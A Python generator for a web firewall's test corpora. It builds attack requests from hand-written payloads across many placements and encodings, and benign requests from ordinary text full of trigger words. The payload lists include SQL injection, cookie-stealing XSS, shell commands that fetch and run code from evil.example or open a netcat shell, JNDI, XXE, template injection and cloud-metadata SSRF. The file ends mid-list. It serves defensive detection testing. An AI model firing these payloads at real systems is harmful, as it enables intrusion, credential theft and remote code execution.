#!/usr/bin/env python3
"""Generate Portcullis's detection corpora (deterministic, fixed seed).

    python3 tests/detection/generate.py OUT_DIR

writes OUT_DIR/attacks.jsonl and OUT_DIR/benign.jsonl. One request per line:

    {"id": "sqli-03-query-url", "class": "sqli", "placement": "query",
     "encoding": "url", "method": "GET", "uri": "/search?q=...",
     "headers": [["Host", "shop.example"], ...], "body": "..."}

`class` is "benign" in benign.jsonl. `encoding` says what the application
sees after the ordinary transport decoding of its placement (query and form
percent-decoding, the JSON or XML parser): "plain" is the payload itself,
"url" and "double_url" the payload percent-encoded once or twice more,
"base64" the whole value base64-encoded, "json_unicode" every character as
a JSON \\uXXXX escape (JSON only), "xml_entities" every character as an XML
character reference (XML only). Every payload here was written for this
project; none is taken from another project's lists or tests.
"""

import base64
import json
import random
import sys
import urllib.parse
from pathlib import Path

SEED = 13
HOST = "shop.example"

# Attack payloads, by class: several distinct ones each, written by hand.
PAYLOADS = {
    "sqli": [
        "1' OR '1'='1' -- ",
        "42 UNION SELECT username, password_hash FROM accounts--",
        "x'; DROP TABLE orders; --",
        "1 AND SLEEP(5)#",
        "admin'/**/or/**/1=1/**/limit/**/1#",
        "7) AND extractvalue(1,concat(0x7e,(select version())))--",
    ],
    "xss": [
        "<script>alert(document.domain)</script>",
        "<img src=x onerror=fetch('//evil.example/'+document.cookie)>",
        "\"><svg/onload=alert(1)>",
        "javascript:alert(String.fromCharCode(88,83,83))",
        "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
        "<body onpageshow=confirm`1`>",
    ],
    "path_traversal": [
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "/var/www/../../etc/shadow",
        "....//....//....//etc/hosts",
        "../../../proc/self/environ",
        "/etc/passwd%00.png",
    ],
    "cmdi": [
        "127.0.0.1; cat /etc/passwd",
        "x && curl http://evil.example/s.sh | sh",
        "$(id)",
        "`uname -a`",
        "foo | nc -e /bin/sh 10.0.0.7 4444",
        "a;wget${IFS}http://evil.example/x -O /tmp/x",
    ],
    "ldap": [
        "*)(uid=*))(|(uid=*",
        "admin)(&(objectClass=*)",
        "*)(|(userPassword=*)",
        "jdoe)(|(cn=*)(mail=*))",
        "*))%00",
    ],
    "crlf": [
        "victim@example.org\r\nBcc: list@evil.example",
        "hello\r\nSet-Cookie: session=attacker",
        "en\r\n\r\n<html>injected</html>",
        "report\nContent-Type: text/html\nX-Injected: 1",
        "user@example.org%0d%0aCc:%20spam@evil.example",
    ],
    "ssi": [
        "<!--#exec cmd=\"ls -la /\" -->",
        "<!--#include virtual=\"/etc/passwd\" -->",
        "<!--#echo var=\"DOCUMENT_ROOT\" -->",
        "<!--#config errmsg=\"x\" --><!--#exec cgi=\"/cgi-bin/a.sh\" -->",
        "<!--#printenv -->",
    ],
    "ssti": [
        "{{7*7}}",
        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "<%= system('whoami') %>",
        "{% for c in [].__class__.__base__.__subclasses__() %}{{c}}{% endfor %}",
        "#set($x=$class.inspect('java.lang.Runtime'))$x",
    ],
    "nosql": [
        "{\"$ne\": null}",
        "{\"$gt\": \"\"}",
        "{\"$where\": \"this.password.length > 0\"}",
        "{\"$regex\": \"^adm\"}",
        "'; return db.users.find(); var x='",
    ],
    "xxe": [
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><r>&e;</r>",
        "<!DOCTYPE d [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]><d/>",
        "<?xml version=\"1.0\"?><!DOCTYPE a SYSTEM \"http://evil.example/a.dtd\"><a>1</a>",
        "<!DOCTYPE x [<!ENTITY a SYSTEM \"php://filter/convert.base64-encode/resource=index.php\">]><x>&a;</x>",
        "<!DOCTYPE q [<!ENTITY l0 \"lol\"><!ENTITY l1 \"&l0;&l0;&l0;&l0;\">]><q>&l1;</q>",
    ],
    "jndi": [
        "${jndi:ldap://evil.example:1389/a}",
        "${jndi:rmi://10.0.0.8/obj}",
        "${${lower:j}ndi:${lower:l}dap://evil.example/x}",
        "${jndi:dns://evil.example/${env:USER}}",
        "${${::-j}${::-n}${::-d}${::-i}:ldaps://evil.example/b}",
    ],
    "php": [
        "<?php system($_GET['c']); ?>",
        "phpinfo();",
        "eval(base64_decode('ZWNobyAxOw=='));",
        "php://filter/read=convert.base64-encode/resource=config.php",
        "assert(file_get_contents('/etc/passwd'))",
        "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "gopher://127.0.0.1:6379/_FLUSHALL",
        "http://[::1]:8500/v1/agent/self",
        "file:///etc/passwd",
        "http://0x7f000001/admin",
    ],
}

PLACEMENTS = ["query", "path", "form", "multipart", "json", "xml", "header", "cookie", "user_agent"]
ENCODINGS = ["plain", "url", "double_url", "base64"]
EXTRA_ENCODING = {"json": "json_unicode", "xml": "xml_entities"}

BROWSER_UA = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"


def encode(value: str, encoding: str) -> str:
    """What the application sees (see the module docstring)."""
    if encoding == "plain":
        return value
    if encoding == "url":
        return urllib.parse.quote(value, safe="")
    if encoding == "double_url":
        return urllib.parse.quote(urllib.parse.quote(value, safe=""), safe="")
    if encoding == "base64":
        return base64.b64encode(value.encode()).decode()
    raise ValueError(encoding)


def json_unicode(text: str) -> str:
    """`text` with every character a JSON \\uXXXX escape (UTF-16 code
    units: a surrogate pair above the BMP)."""
    units = text.encode("utf-16-be")
    return "".join("\\u%02x%02x" % (units[i], units[i + 1]) for i in range(0, len(units), 2))


def header_safe(value: str) -> str:
    """A header or cookie value cannot hold CR, LF or other controls: as %XX."""
    return "".join(c if 0x20 <= ord(c) < 0x7F or ord(c) > 0x7F else "%%%02X" % ord(c) for c in value)


def xml_escape(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def base_headers(ua: str = BROWSER_UA):
    return [
        ["Host", HOST],
        ["User-Agent", ua],
        ["Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"],
        ["Accept-Language", "en-GB,en;q=0.7"],
    ]


def request(method, uri, headers, body=""):
    if body or method in ("POST", "PUT", "PATCH"):
        headers = headers + [["Content-Length", str(len(body.encode()))]]
    return {"method": method, "uri": uri, "headers": headers, "body": body}


def place(placement: str, value: str, cls: str, encoding: str) -> dict:
    """One request carrying `value` (already encoded) in `placement`."""
    q = urllib.parse.quote
    if placement == "query":
        return request("GET", "/search?lang=en&q=" + q(value, safe=""), base_headers())
    if placement == "path":
        return request("GET", "/files/" + q(value, safe="/") + "/view", base_headers())
    if placement == "form":
        body = "name=Jane&comment=" + urllib.parse.quote_plus(value) + "&submit=Send"
        return request("POST", "/contact", base_headers() + [["Content-Type", "application/x-www-form-urlencoded"]], body)
    if placement == "multipart":
        b = "----PortcullisEval7MA4YWxkTrZu0gW"
        body = (
            f"--{b}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nQuarterly report\r\n"
            f"--{b}\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n{value}\r\n"
            f"--{b}--\r\n"
        )
        return request("POST", "/upload", base_headers() + [["Content-Type", f"multipart/form-data; boundary={b}"]], body)
    if placement == "json":
        if encoding == "json_unicode":
            body = '{"user":"jane","query":"' + json_unicode(value) + '","page":1}'
        else:
            body = json.dumps({"user": "jane", "query": value, "page": 1}, ensure_ascii=False)
        return request("POST", "/api/search", base_headers() + [["Content-Type", "application/json"]], body)
    if placement == "xml":
        if cls == "xxe" and encoding == "plain":
            body = value
        elif encoding == "xml_entities":
            body = "<?xml version=\"1.0\"?><order><item>" + "".join("&#x%x;" % ord(c) for c in value) + "</item></order>"
        else:
            body = "<?xml version=\"1.0\"?><order><item>" + xml_escape(value) + "</item></order>"
        return request("POST", "/api/orders", base_headers() + [["Content-Type", "application/xml"]], body)
    if placement == "header":
        return request("GET", "/account", base_headers() + [["X-Search-Filter", header_safe(value)]])
    if placement == "cookie":
        v = header_safe(value).replace(";", "%3B")
        return request("GET", "/account", base_headers() + [["Cookie", f"theme=dark; pref={v}; sid=4f1c2a"]])
    if placement == "user_agent":
        return request("GET", "/", base_headers(ua=header_safe(value)))
    raise ValueError(placement)


def attacks():
    out = []
    for cls, payloads in PAYLOADS.items():
        for i, payload in enumerate(payloads, 1):
            for placement in PLACEMENTS:
                encs = ENCODINGS + ([EXTRA_ENCODING[placement]] if placement in EXTRA_ENCODING else [])
                for enc in encs:
                    value = payload if enc in ("json_unicode", "xml_entities") else encode(payload, enc)
                    r = place(placement, value, cls, enc)
                    r = {"id": f"{cls}-{i:02d}-{placement}-{enc}", "class": cls, "placement": placement, "encoding": enc, **r}
                    out.append(r)
    return out


# ---------------------------------------------------------------- benign
#
# Everything below was written for this project: texts people type into
# shops, forums and APIs, chosen to carry the words and punctuation that
# injection rules look for (SQL, shell and HTML words, quotes, semicolons,
# "1=1" in a promo) without being attacks. Tokens, images, ids and cookies
# are generated from the seeded random source.

# English prose, several registers, with SQL words.
PROSE_SQL = [
    "union station select seats",
    "drop me a line when you land",
    "select your seat then update your profile",
    "Please delete my old address and insert the new one from my profile",
    "Where can I order a table for two near Union Square?",
    "I want to drop the yoga class and join the evening run instead",
    "What's the difference between 'where' and 'when' clauses in SQL?",
    "Order #1234 from the union catalogue: 2 x chairs, 1 x table",
    "I'd like to join your mailing list and select the weekly digest",
    "Use the 'find my order' page, then click 'update'.",
    "Can we select a date for the union meeting? Thursday works for me.",
    "Please drop the table from the order, it arrived with a cracked leg.",
    "I'd like to update my delivery address from Leeds to York, where I moved in June.",
    "The union voted to join the strike, so delete my name from the Friday rota.",
    "Insert coin, select drink, wait for the beep. The machine ate my 2 euros!",
    "Sort by price, then order by rating: the filter resets when I go back.",
    "We had a table booked for 8 but they sat us next to the kitchen door.",
    "Who's updating the seating chart? Drop me a line before noon.",
    "Select 'Other' from the menu and type your reason in the box below.",
    "Our book club meets where the old union hall was; join us in the back room.",
    "Union Jack, union of sets, Union Pacific: my kid's homework is all over the place.",
    "The drop-down doesn't let me select more than one size.",
    "Order by Friday for delivery before the holidays; free returns until 31 January.",
    "Can someone from support delete the duplicate order? I was charged twice.",
    "I'll insert the photos into the album and update the captions tonight.",
    "From the tasting menu I'd select the fish; my partner is vegetarian.",
    "Where do I find the table of contents in the e-book version?",
    "Please join tables 4 and 5 together for a birthday party of 12.",
    "hi, can u update my order from blue to green? thx",
    "Dear Sir or Madam, I write to request that you delete all personal data you hold about me.",
    "We regret to inform you that the order was dropped from the schedule due to a strike by the drivers' union.",
    "Kindly select a delivery slot from the options below and confirm your order by 5 pm.",
    "lol the sofa doesn't fit through the door, can I drop it back at the store or do u collect?",
    "Does 'select all' in the app also select the archived items, or only the ones in the table?",
    "The drop in price from $499 to $349 happened the day after I ordered. Can you refund the difference?",
    "I keep getting logged out whenever I update my password from the mobile app.",
    "Union Street store: are you open on Sunday, and where do I park?",
    "Please insert a note in the parcel: 'Happy birthday, Gran! Love from all of us.'",
    "Delete, then re-add the item? That's what the chat bot told me to do and it worked.",
    "My order from last week shows 'null' where the tracking number should be.",
    "The table saw was missing the blade guard; order number is on the receipt.",
    "Select group tickets for 10 or more people and a coordinator will join you.",
]

# English prose with shell words.
PROSE_SHELL = [
    "Can you cat-sit from Friday to Sunday? We're at 1 Main St & 5th Ave.",
    "The exec committee meets on Tuesday; sleep well before the vote",
    "Kill the lights and echo the chorus twice -- the band's notes",
    "Set the alarm for 6; wake me if the cron job fails",
    "Our shell company (Shell & Co.) moved to 10 Downing Lane",
    "The cat knocked the ping-pong ball under the sofa and fell asleep.",
    "Please don't kill the plant while we're away: water it every other day.",
    "Find the receipt, echo back the total, and ping me when it's done.",
    "Sleep tight! We'll curl up with a film tonight.",
    "Room 5 (rm 5 on the door sign) is the quiet room; please no phones.",
    "My L and S keys stick, so 'ls' is all I typed before it sent. Sorry!",
    "Curl your hair on low heat and kill the frizz with a drop of oil.",
    "I can't find my cat! Grey tabby, answers to 'Echo', last seen near the park.",
    "Ping-pong tournament: sign up at the desk and bring your own paddle.",
    "Sleep 8 hours, drink water, then find out what the doctor says.",
    "The kill switch on the treadmill stopped working; can someone look at it?",
    "Echo Park to Union Station takes 20 minutes by bus.",
    "Please rm me from the list, I mean remove me, sorry about the typo.",
    "Cat 6 cable, 10 m: is the shop out of stock until March?",
    "The sleep timer on the TV kills the sound but not the picture.",
    "Find attached the exec summary; ping me if the numbers look off.",
    "Is the cat tree suitable for a kitten, or only for grown cats?",
    "Curling club: we meet at 7, sleep-over for the juniors on Saturday.",
    "Ping me at the front desk when the courier arrives and I'll sign.",
    "The echo in the hall made the speeches hard to follow; maybe a mic next time?",
]

# English prose with HTML and JavaScript words.
PROSE_HTML = [
    "Is the script for the school play ready? Alert the parents please.",
    "The script for Act II has an alert scene where the phone rings.",
    "The onload animation is slow on my old laptop; the page takes ages.",
    "My iframe embed of the map doesn't show on mobile, any idea?",
    "Red alert: the bakery is out of croissants again!",
    "What's the difference between onload and DOMContentLoaded in plain words?",
    "Handwriting: cursive script or print? The form doesn't say.",
    "The school sent an alert about the snow day, and the script for the play changed too.",
    "Can I turn off the price alert e-mails but keep the order updates?",
    "The body text on the product page is grey on grey; hard to read.",
    "I'm a script supervisor on a film and need 40 copies bound by Monday.",
    "The embedded video (an iframe, I think) autoplays with sound. Please stop that.",
]

# Punctuation-heavy prose: quotes, semicolons, parentheses, ampersands,
# percentages, prices, emoticons and "1=1" as people write it in promos.
PROSE_PUNCT = [
    "Price: $10 < $20 > $5, isn't it?",
    "Reminder: bring ID, passport & the print-out of the ticket",
    "Is the 1=1 promo (buy one get one) still running?",
    "My son's name is O'Brien, not OBrien; please update the booking",
    "Promo '1=1' means buy 1, get 1 free; valid till Sunday (while stocks last)!",
    "Save 25%-40% on selected items; prices from EUR 9.99 (incl. VAT).",
    "It's 3 o'clock; I'm \"almost\" there... 5 min? :-)",
    "Tom & Jerry's B&B: check-in 2pm-8pm; late arrivals (after 10pm) please call ahead.",
    "50% off + free shipping = best deal ever!!! ;)",
    "Q: is 2+2=4? A: yes (usually); but 0.1+0.2 != 0.3 in floating point :P",
    "Sizes: S/M/L/XL; colours: red|blue|green; qty: 1-3 per order.",
    "Dinner @ 7:30? Table for 4 (or 5 if Sam's coming) <3",
    "\"Best pizza in town\" -- my mum; 10/10 would order again ^_^",
    "Ticket #4521 (re: 'refund'): amount = $49.00 - $5.00 coupon = $44.00.",
    "Code SUMMER=20 gives 20% off; 1=1 is buy-one-get-one; don't stack them!",
    "Yes/no? Maybe; depends on the weather (& my knees) :-/",
    "Price drop!!! Was GBP 120, now 79.99 -- that's -33% ;-D",
    "O'Neill's pub; 5-7pm happy hour; pints @ 4.50; 'quiz night' on Weds.",
    "The score was 1=1 at half time (not 2-1 as the app says, see screenshot).",
    "Ingredients: flour (500g), sugar (200g), eggs (x3); bake @ 180C for 25'.",
    "Hi!!! :) :( ;) :D xD <3 just testing the emoticons in your chat, sorry",
    "100% cotton; wash @ 30 degrees; do NOT tumble dry (it shrinks ~5%).",
    "Terms & Conditions apply*; *see store for details (excl. sale items).",
    "A+B=C? In our team: Alice + Bob = coffee :o)",
    "3 for 2 on paperbacks (cheapest free); 2=1 on DVDs; 1=1 on mugs?!",
    "Rate us 5/5 :-) or tell us why not (we read every reply; honestly!)",
    "Invoice total: 1,299.00 + 20% VAT = 1,558.80; due in 30 days (net 30).",
    "Hmm... \"free\" delivery (min. order 50); so 49.99 + 4.95 = 54.94?! >:(",
    "Can't log in :'( tried 3x; reset e-mail never came (spam folder too).",
    "Order ref: AB-12/34#5; my name's D'Angelo (with the apostrophe!)",
    "Love it <3 <3 <3 (size up though; it runs small)",
    "Opening hours: Mon-Fri 9-17; Sat 10-14; Sun & holidays: closed.",
    "[x] gift wrap  [ ] invoice  [x] leave with neighbour (No. 12 or 14)",
    "95% of reviews say 'true to size'; I'm in the other 5% ;-)",
    "Two 'small' issues: (1) the lid; (2) the handle; otherwise 4/5.",
]

# Prose in other languages and scripts, some mixing in English SQL or
# shell words as people do.
PROSE_I18N = [
    "Bitte das Update bis Freitag einspielen, sonst fällt der Tisch für die Demo weg.",
    "Ich möchte meine Bestellung stornieren und die alte Adresse löschen (delete).",
    "Wo finde ich die Tabelle mit den Öffnungszeiten? Die Select-Box funktioniert nicht.",
    "Sehr geehrte Damen und Herren, bitte senden Sie mir die Rechnung zu Auftrag 2026-118 erneut zu.",
    "Kannst du die Union-Führung am Samstag buchen? Ich schlafe (sleep) bis zehn, lol.",
    "Bonjour ! Je voudrais sélectionner une table près de la fenêtre pour samedi soir.",
    "L'Union européenne a publié un rapport ; où puis-je le télécharger ?",
    "Merci de mettre à jour (update) mon adresse : 12, rue de l'Église, 75004 Paris.",
    "J'ai fait un « drop » de mes fichiers dans le dossier partagé, tu peux vérifier ?",
    "Madame, Monsieur, veuillez supprimer mon compte ainsi que mes données personnelles.",
    "¿Dónde está la estación Unión? Quiero seleccionar asientos juntos.",
    "Por favor, borren (delete) mi cuenta antigua y actualicen el correo.",
    "La mesa para cuatro, ¿pueden juntarla con la de al lado? ¡Gracias!",
    "Vorrei ordinare un tavolo per due; dov'è l'ingresso principale?",
    "Seleziona la taglia, poi aggiorna il carrello: il prezzo cambia del 20%.",
    "Não consigo selecionar o assento; o site diz 'erro 500' e depois nada.",
    "Boa tarde! Gostaria de atualizar meu endereço em São Paulo, por favor.",
    "Kun je de tabel updaten en de oude rijen droppen? Dank je!",
    "Waar kan ik mijn bestelling annuleren? Ik heb per ongeluk twee keer besteld.",
    "Proszę o aktualizację zamówienia; wybrałem zły rozmiar (M zamiast L).",
    "Hej! Kan ni uppdatera min adress? Jag har flyttat till Göteborg.",
    "Moi! Voitteko poistaa vanhan tilauksen ja päivittää osoitteen?",
    "ユニオン駅の座席を選択したいのですが、どうすればいいですか？",
    "注文をキャンセルして、テーブルの予約を変更してください。",
    "请帮我更新收货地址，并删除旧的订单。谢谢！",
    "从北京到上海的高铁，怎么选择座位？",
    "Пожалуйста, обновите мой заказ и удалите старый адрес доставки.",
    "Где найти таблицу размеров? Хочу выбрать куртку на зиму.",
    "Καλησπέρα, θέλω να ενημερώσω τη διεύθυνσή μου και να διαγράψω την παλιά.",
    "Siparişimi güncellemek istiyorum; lütfen eski adresi silin.",
    "좌석 선택은 어디에서 하나요? 주문을 업데이트하고 싶어요.",
    "مرحبا، أريد تحديث عنوان التوصيل وحذف الطلب القديم من فضلك.",
    "कृपया मेरा पता अपडेट करें और पुराना ऑर्डर हटा दें।",
    "שלום, אפשר לעדכן את כתובת המשלוח? תודה רבה!",
    "Xin chào, tôi muốn cập nhật địa chỉ và chọn (select) giờ giao hàng.",
    "Habari! Naomba mnisaidie kufuta (delete) oda ya zamani.",
    "Dzień dobry, czy mogę wybrać stolik przy oknie? Dziękuję :)",
    "Hallo, mein Kater (cat!) hat das Kabel angeknabbert; gibt es Ersatz?",
]

SEARCHES = [
    "union station select seats", "drop me a line", "cheap flights to dublin", "o'reilly books",
    "python list comprehension", "how to update profile photo", "select all that apply meaning",
    "table tennis bats", "where to insert sim card", "rock & roll hall of fame", "c++ vs rust",
    "1/2 inch drill bit", "what is 50% of 80", "men's shoes size 10", "café au lait", "naïve bayes",
    "email@example.com not working", "script writing course", "alert box css", "delete account",
    "from paris to rome by train", "sleep apnea test", "wait for it", "ls vs dir", "cat food",
    "select comfort mattress", "drop shipping business", "union jack cushion", "insert molding trim",
    "update drivers windows 11", "from scratch pizza dough", "where is my order", "order by phone",
    "table lamp brass", "join the gym student discount", "cat 6 cable 20m", "sleep mask silk",
    "find my phone", "exec chair leather", "echo dot 5th gen", "curl cream for wavy hair",
    "ping g430 driver", "rm williams boots", "script font generator", "medical alert bracelet",
    "iframe youtube responsive", "1=1 promo code", "50% off sale", "black friday 2026 deals",
    "o'neill wetsuit 5/4", "d'angelo bakery", "zoë kravitz", "tom & jerry dvd", "best c# ide",
    "how to join two tables in sql", "sql select where in list", "bash for loop over files",
    "javascript onload vs domcontentloaded", "kill process on port 3000", "what does rm -r do",
    "echo vs printf", "union of two sets python", "drop down menu html", "insert row excel shortcut",
    "l'oréal shampoo", "piña colada recipe", "smörgåsbord", "東京 ラーメン", "北京烤鸭",
    "где купить самовар", "10% of 250", "3/4 cup to grams", "size 38 = uk 5?",
]

NAMES = ["O'Brien", "D'Angelo", "Jean-Luc Picard", "María José", "Zoë Smith", "Søren Kierkegaard",
         "Nguyễn Văn An", "Mc'Donald", "Anne-Marie O'Neill", "José", "Åsa Öberg", "李雷",
         "Seán Ó Briain", "Siobhán Ní Dhomhnaill", "Giovanni D'Amico", "Renée O'Callaghan",
         "Björn Ångström", "Łukasz Żółć", "Chloë van der Berg", "Mary-Kate D'Souza", "Ahmed Al-Hassan",
         "Lucía Núñez-Ortega", "王芳", "佐藤 花子", "김민준", "Αλέξανδρος Παπαδόπουλος", "Дмитрий Иванов",
         "Oluwaseun Adébáyọ̀", "Dr. Emily St. John", "Pieter van 't Hof", "Sam Null", "Zoë D'Arcy-Brown",
         "Ōtani Shōhei-san", "Fátima Zahra El-Idrissi", "Jo Ng"]

ADDRESSES = [
    "12 O'Connell Street, Dublin 1, D01 F5P2",
    "Flat 3B, 221 Baker St., London NW1 6XE",
    "Rua Augusta 100, 1100-053 Lisboa",
    "Musterstraße 5a, 10115 Berlin",
    "1600 Union Ave, Apt #4, Memphis, TN 38104",
    "P.O. Box 742, Anchorage, AK 99501",
    "Calle de Alcalá 42, 3º izq., 28014 Madrid",
    "10 Rue de l'Université, 75007 Paris",
    "東京都渋谷区神南1-2-3",
    "Kärntner Straße 21-23, 1010 Wien",
    "Av. Paulista, 1578 - Bela Vista, São Paulo - SP, 01310-200",
    "c/o D'Angelo & Sons, 45 Mill Rd, Cambridge CB1 2AD",
    "Rm 1203, 12/F, Tower 2, 1 Harbour Rd, Wan Chai, Hong Kong",
    "Union Square 1 (Level 3), San Francisco, CA 94108",
    "Table Bay Blvd 14, Cape Town 8001",
    "ul. Nowy Świat 15/17 m. 8, 00-029 Warszawa",
    "Unit 7; 3-5 Select St; Parramatta NSW 2150",
    "Building C, Floor 2 (ring twice), 88 Drop Lane, Leeds LS1 4AP",
]
EMAILS = ["reader@example.org", "sean.o'brien@example.ie", "first.last+orders@example.com",
          "jd@sub.example.co.uk", "info@d-angelo.example.it", "user_name-1@example.org",
          "zoe.smith@example.net", "ops-alerts@example.com", "select.seats@union-travel.example",
          "kontakt@müller.example", "li.lei@example.cn", "noreply+bounce-4711@mail.example.com",
          "m.o'neill@example.co.uk", "a@b.example", "team.sales&support@example.org"]
PHONES = ["+353 1 234 5678", "(555) 010-4477", "+44 (0)20 7946 0958", "+1-202-555-0173 ext. 12",
          "030 / 1234567", "+49 30 12345678", "06 12 34 56 78", "+33 6 12 34 56 78", "+81 3-1234-5678",
          "+86 138 0013 8000", "0800 123 456", "+61 (02) 9876 5432", "555.010.9922", "+7 (495) 123-45-67",
          "+1 (800) FLOWERS"]
URLS_IN_TEXT = [
    "See https://example.org/docs?page=2&sort=asc#install for the details.",
    "Tracking: https://track.example-post.com/?id=JJD0001234567&lang=en (updates hourly)",
    "I found it here: https://www.example.com/search?q=union+station&select=seats",
    "Meet at https://maps.example.com/?q=51.5074,-0.1278&z=17 at 6",
    "The wiki page https://en.example.org/wiki/Union_(set_theory) explains it",
    "Docs moved to https://docs.example.dev/v2/guide/select-and-join/ last week",
    "Unsubscribe via https://mail.example.com/u?id=8f1c&list=weekly&token=a1b2c3 please",
    "Photo: https://cdn.example.org/img/2026/12/cat%20on%20table.jpg",
    "Deutsche Seite: https://de.example.org/wiki/Köln?action=view",
    "Mail us: mailto:help@example.org?subject=Order%20%231234",
    "Our old FTP (ftp://files.example.org/pub/readme.txt) is gone, use the site.",
    "Local dev: http://localhost:3000/api/users?id=42&include=orders",
]

# Code people post to a developer forum, as it appears in the post.
CODE_SQL = [
    "SELECT id, name FROM users WHERE created_at > NOW() - INTERVAL '7 days' ORDER BY name;",
    "UPDATE settings SET theme = 'dark' WHERE user_id = 7;",
    "SELECT o.id, c.name, SUM(i.qty * i.price) AS total\nFROM orders o\nJOIN customers c ON c.id = o.customer_id\n"
    "JOIN order_items i ON i.order_id = o.id\nWHERE o.created_at >= '2026-01-01'\nGROUP BY o.id, c.name\n"
    "ORDER BY total DESC\nLIMIT 20;",
    "INSERT INTO tags (name) VALUES ('winter'), ('sale') ON CONFLICT (name) DO NOTHING;",
    "DELETE FROM sessions WHERE expires_at < now();",
    "SELECT name FROM cities WHERE country = 'FR'\nUNION\nSELECT name FROM towns WHERE country = 'FR';",
    "DROP TABLE IF EXISTS staging_orders;\nCREATE TABLE staging_orders (LIKE orders INCLUDING ALL);",
    "UPDATE products SET price = price * 0.9 WHERE category_id IN (3, 7) AND stock > 0;",
    "SELECT COUNT(*) FROM users WHERE email LIKE '%@example.org';",
    "ALTER TABLE invoices ADD COLUMN paid_at timestamptz;",
    "WITH recent AS (SELECT * FROM events WHERE ts > now() - interval '1 hour')\n"
    "SELECT kind, count(*) FROM recent GROUP BY kind;",
    "SELECT * FROM t1 LEFT JOIN t2 USING (id) WHERE t2.id IS NULL;",
    "CREATE INDEX CONCURRENTLY idx_orders_customer ON orders (customer_id);",
    "SELECT id FROM jobs WHERE status = 'queued' ORDER BY priority DESC, id FOR UPDATE SKIP LOCKED LIMIT 1;",
    "GRANT SELECT ON ALL TABLES IN SCHEMA reporting TO analyst;",
    "SELECT date_trunc('month', created_at) AS m, count(*) FROM signups GROUP BY 1 ORDER BY 1;",
]
CODE_SHELL = [
    "for f in *.log; do gzip \"$f\"; done",
    "git commit -m 'fix: handle empty cart'",
    "find . -name '*.tmp' -mtime +7 -delete",
    "ls -la ~/Downloads | sort -k5 -n | tail",
    "for i in $(seq 1 5); do curl -s https://api.example.com/health; sleep 2; done",
    "ps aux | grep node | awk '{print $2}' | xargs kill",
    "cut -d' ' -f1 access.log | sort | uniq -c | sort -rn | head",
    "echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.bashrc",
    "ping -c 4 example.com && echo up || echo down",
    "rm -r build/ && make -j4",
    "tar -czf backup-$(date +%F).tar.gz ~/projects",
    "docker exec -it web bash",
    "grep -rn 'TODO' src/ --include='*.py'",
    "curl -X POST -H 'Content-Type: application/json' -d '{\"name\":\"test\"}' https://api.example.com/items",
    "cat notes.txt | wc -l",
]
CODE_PYTHON = [
    "def add(a, b):\n    return a + b\n",
    "with open('data.csv') as f:\n    rows = [line.split(',') for line in f]",
    "import subprocess\nout = subprocess.run(['ls', '-l'], capture_output=True, text=True).stdout\nprint(out)",
    "cur.execute(\"SELECT * FROM users WHERE id = %s\", (user_id,))",
    "from datetime import datetime, timedelta\nprint(datetime.now() - timedelta(days=7))",
    "def fib(n):\n    a, b = 0, 1\n    for _ in range(n):\n        a, b = b, a + b\n    return a",
    "import os\nprint(os.environ.get('HOME'))",
    "result = {k: v for k, v in sorted(d.items(), key=lambda kv: kv[1])}",
    "if __name__ == '__main__':\n    main()",
    "df = pd.read_sql('SELECT * FROM sales WHERE year = 2026', conn)",
]
CODE_JS = [
    "const total = items.reduce((s, i) => s + i.price, 0);",
    "if (x < 10 && y > 3) { console.log('ok'); }",
    "window.addEventListener('load', () => {\n  document.querySelector('#menu').classList.add('ready');\n});",
    "fetch('/api/items').then(r => r.json()).then(items => console.log(items.length));",
    "const params = new URLSearchParams(location.search);\nconst q = params.get('q') ?? '';",
    "alert('Saved!'); // TODO replace with a toast",
    "setTimeout(() => el.remove(), 3000);",
    "export function sum(xs: number[]): number { return xs.reduce((a, b) => a + b, 0); }",
    "const user = JSON.parse(localStorage.getItem('user') || '{}');",
    "<Button onClick={() => setOpen(true)}>Open</Button>",
]
CODE_HTML = [
    "<div class=\"card\">Hello</div>",
    "<script src=\"/static/app.js\" defer></script>",
    "<body onload=\"init()\">",
    "<iframe src=\"https://www.youtube.com/embed/dQw4\" width=\"560\" height=\"315\" allowfullscreen></iframe>",
    "<img src=\"logo.png\" alt=\"Company logo\" width=\"120\">",
    "<form method=\"post\" action=\"/login\"><input name=\"user\"><button>Go</button></form>",
    "<a href=\"#\" onclick=\"toggle()\">Show more</a>",
    "<table><tr><td>1</td><td>2</td></tr></table>",
]
CODE_OTHER = [
    "fn main() { println!(\"hello\"); }",
    ".card:hover { box-shadow: 0 2px 8px rgba(0,0,0,.2); }",
    "$stmt = $pdo->prepare('SELECT * FROM posts WHERE id = ?');\n$stmt->execute([$id]);",
    "List<String> names = users.stream().map(User::getName).collect(Collectors.toList());",
    "rows, err := db.Query(\"SELECT id FROM items WHERE owner = $1\", owner)",
    "services:\n  web:\n    image: nginx:1.27\n    ports: [\"8080:80\"]",
    "FROM python:3.12-slim\nRUN pip install -r requirements.txt\nCMD [\"python\", \"app.py\"]",
    "location /api/ {\n    proxy_pass http://127.0.0.1:8080;\n}",
    "^[A-Z]{2}\\d{2}[A-Z0-9]{11,30}$",
]
# (language tag, fence tag, snippets)
CODE_GROUPS = [("sql", "sql", CODE_SQL), ("bash", "bash", CODE_SHELL), ("python", "python", CODE_PYTHON),
               ("js", "js", CODE_JS), ("html", "html", CODE_HTML), ("other", "", CODE_OTHER)]
CODE = [c for _, _, group in CODE_GROUPS for c in group]

POST_TITLES = [
    "How do I do this?", "How do I join two tables without duplicates?", "Why does my bash loop skip the last line?",
    "onload fires twice in Safari", "Best way to delete old rows in batches?", "Select the latest row per group",
